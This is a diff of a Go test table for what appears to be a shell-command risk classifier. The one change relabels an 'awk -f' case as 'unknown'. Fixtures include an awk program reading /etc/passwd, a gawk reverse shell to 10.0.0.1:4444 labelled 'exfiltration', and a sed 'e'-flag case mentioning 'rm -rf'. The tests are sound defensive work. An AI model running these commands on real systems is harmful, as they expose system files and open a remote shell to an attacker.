@@ -307,7 +307,7 @@ func TestTools(t *testing.T) {
 		{"awk", "BEGIN{while((\"cat /etc/passwd\" | getline l)>0) print l}", "safe", "cat /etc/passwd"},
 		{"gawk -i inplace", "{sub(/a/,\"b\")}1 ¦ f.txt", "safe", "sed -i s/a/b/ f.txt"},
 		{"gawk", "BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\"; while(1){s |& getline c; while((c |& getline l)>0) print l |& s}}", "exfiltration", ""},
-		{"awk -f prog.awk", "a.txt", "none", ""},
+		{"awk -f prog.awk", "a.txt", "unknown", ""},
 		{"sed", "s/a/b/g ¦ f", "none", ""},
 		{"sed -n", "1,10p ¦ f", "none", ""},
 		{"sed -i", "s/rm -rf/x/e2 ¦ f", "unknown", "x"},
